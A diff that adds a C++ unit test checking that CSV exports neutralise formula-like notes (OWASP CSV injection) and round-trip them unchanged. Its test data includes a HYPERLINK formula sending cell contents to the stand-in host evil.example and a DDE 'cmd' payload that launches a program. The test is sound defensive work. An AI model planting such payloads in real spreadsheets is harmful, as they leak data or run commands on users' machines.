@@ -48,6 +48,33 @@ TEST(CsvTest, ExportImportExportGivesTheSameBytes) {
   EXPECT_EQ(to_csv(shipped(), *back), first);
 }
 
+// OWASP CSV injection: a note that a spreadsheet would run as a formula is
+// written as text (a leading apostrophe), and read back as typed, so export,
+// import, export gives the same bytes.
+TEST(CsvTest, NotesThatLookLikeFormulasAreNeutralisedAndReadBackAsTyped) {
+  const std::vector<std::string> hostile = {
+      "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|'/C calc'!A0", "-2+3", "@SUM(A1:A2)",
+      "\t=1+1", "\r=1+1", "'=already quoted", "'plain apostrophe", "fine = not at the start", "ünïcode ✓ <script>"};
+  std::vector<DayEntry> entries;
+  for (std::size_t i = 0; i < hostile.size(); ++i) {
+    DayEntry e;
+    e.date = Date::parse("2026-12-07", "")->plus_days(static_cast<int>(i));
+    e.outcome = 5;
+    e.note = hostile[i];
+    entries.push_back(e);
+  }
+  const std::string text = to_csv(shipped(), entries);
+  // No cell begins with a formula character: each such note starts with an apostrophe.
+  for (const char* cell : {",\"'=HYPERLINK", ",'+cmd", ",'-2+3", ",'@SUM", ",'\t=1+1", ",\"'\r=1+1\"", ",''=already",
+                           ",''plain", ",fine = not"})
+    EXPECT_NE(text.find(cell), std::string::npos) << cell << "\n" << text;
+  EXPECT_EQ(text.find(",=HYPERLINK"), std::string::npos);
+  auto back = from_csv(shipped(), gut(), text);
+  ASSERT_TRUE(back) << back.error().front().where << " " << back.error().front().message;
+  for (std::size_t i = 0; i < hostile.size(); ++i) EXPECT_EQ((*back)[i].note, hostile[i]) << i;
+  EXPECT_EQ(to_csv(shipped(), *back), text);
+}
+
 TEST(CsvTest, AcceptsCrlfAndNoFinalNewline) {
   const std::string text = std::string(kHeader).replace(std::string(kHeader).size() - 1, 1, "\r\n") +
                            "2026-12-07,5,2,5,1,,,,,false,,\r\n2026-12-08,4,,,,,,,,true,\"a, b\",";
